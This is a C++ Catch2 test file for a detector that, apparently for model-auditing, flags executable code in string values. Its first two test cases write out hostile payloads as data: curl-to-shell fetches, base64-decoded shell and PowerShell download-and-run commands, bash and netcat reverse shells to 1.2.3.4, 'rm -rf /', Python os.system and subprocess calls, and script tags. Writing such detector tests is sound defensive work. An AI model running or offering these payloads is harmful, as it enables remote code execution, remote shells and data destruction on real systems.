#include <catch2/catch.hpp>

#include <string>
#include <string_view>

#include "detect/code_text.hpp"

using namespace modelaudit::detect;

TEST_CASE("code in a string value is found", "[code_text]") {
  for (const std::string_view text :
       {"__import__('os').system('id')", "import os; os.system('curl http://x')", "eval(compile('1','','exec'))", "x = eval(input('> '))",
        "lambda x: os.popen('id').read()", "exec(base64.b64decode('aW1wb3J0IG9z'))", "subprocess.run(['sh','-c','id'])",
        "f = subprocess.Popen(\"id\", shell=True)", "a fine model __import__('os').system('id')", "().__class__.__bases__[0].__subclasses__()",
        "import socket\ns=socket.socket(socket.AF_INET)\ns.connect(('1.2.3.4',1))", "pickle.loads(data['x'])"}) {
    CAPTURE(text);
    const auto match = find_code(text);
    REQUIRE(match);
    CHECK(match->kind == CodeKind::python_call);
    CHECK(match->extract.size() <= 160);
    CHECK(text.substr(match->offset).starts_with(match->extract));
  }
}

TEST_CASE("shell chains in a string value are found", "[code_text]") {
  const auto kind = [](std::string_view text) {
    const auto match = find_code(text);
    REQUIRE(match);
    return match->kind;
  };
  CHECK(kind("curl http://x/y | sh") == CodeKind::shell_fetch);
  CHECK(kind("; wget -qO- http://x | /bin/bash") == CodeKind::shell_fetch);
  CHECK(kind("sh -c \"$(curl -fsSL http://x)\"") == CodeKind::shell_fetch);
  CHECK(kind("bash <(curl -s http://x)") == CodeKind::shell_fetch);
  CHECK(kind("echo aWQ= | base64 -d | sh") == CodeKind::shell_decode);
  CHECK(kind("bash -i >& /dev/tcp/1.2.3.4/9001 0>&1") == CodeKind::reverse_shell);
  CHECK(kind("nc -e /bin/sh 1.2.3.4 9001") == CodeKind::reverse_shell);
  CHECK(kind("rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 1.2.3.4 9001 >/tmp/f") == CodeKind::reverse_shell);
  CHECK(kind("$(rm -rf /)") == CodeKind::shell_destroy);
  CHECK(kind("powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A") == CodeKind::powershell);
  CHECK(kind("IEX (New-Object Net.WebClient).DownloadString('http://x')") == CodeKind::powershell);
  CHECK(kind("<script>alert(1)</script>") == CodeKind::script_tag);
  CHECK(kind("<script src=http://x/y.js></script>") == CodeKind::script_tag);
}

TEST_CASE("talk about code is not code", "[code_text]") {
  for (const std::string_view text :
       {"see https://github.com/onnx/onnx for details", "eval (test)", "eval(test)", "split: eval(train)", "Never call eval(x) on untrusted input.",
        "A model that can evaluate (eval) and exec code; do not use os.system('rm') in your own programs.", "model.eval()", "re.compile(\"a\")",
        "df.eval(\"a+b\")", "retrieval(query)", "torch.compile(model)", "You can install it with: curl https://x/install.sh | sh",
        "MIT License. Permission is hereby granted, free of charge, to any person obtaining a copy", "os.system", "subprocess", "eval", "exec(",
        "The function os.system(command) runs the command in a shell.", "<|im_start|>system", "a | b", "rm -rf /tmp/cache", "#!/usr/bin/env",
        "The following tool is available to you: exec(\"code\") which runs code", "Use `eval(\"x\")` with care", "base64 -d is a command",
        "https://example.com/x.sh", "<script type> tags are removed", "curl https://x -o model.bin", "{\"a\": [1, 2, 3]}"}) {
    CAPTURE(text);
    CHECK_FALSE(find_code(text));
  }
}

TEST_CASE("documents and training text stay silent", "[code_text]") {
  const std::string card =
      "# Model\n\nThis is a model that was trained on a lot of text.\n\n```python\nimport os\nos.system('ls')\n```\n";
  CHECK_FALSE(find_code(card));
  const std::string doc = "Example:\n    >>> os.system('ls')\n    0\n";
  CHECK_FALSE(find_code(doc));
  std::string dump;
  for (int i = 0; i < 5000; ++i) dump += "eval exec system popen curl wget ";
  CHECK_FALSE(find_code(dump));
}

TEST_CASE("hostile strings end", "[code_text]") {
  CHECK_FALSE(find_code(""));
  CHECK_FALSE(find_code("eval("));
  CHECK_FALSE(find_code("eval()"));
  CHECK_FALSE(find_code(std::string(200'000, '(')));
  std::string calls;
  while (calls.size() < 60'000) calls += "eval((((";
  CHECK_FALSE(find_code(calls));
  std::string pipes = "curl ";
  while (pipes.size() < 60'000) pipes += "| ";
  CHECK_FALSE(find_code(pipes));
}
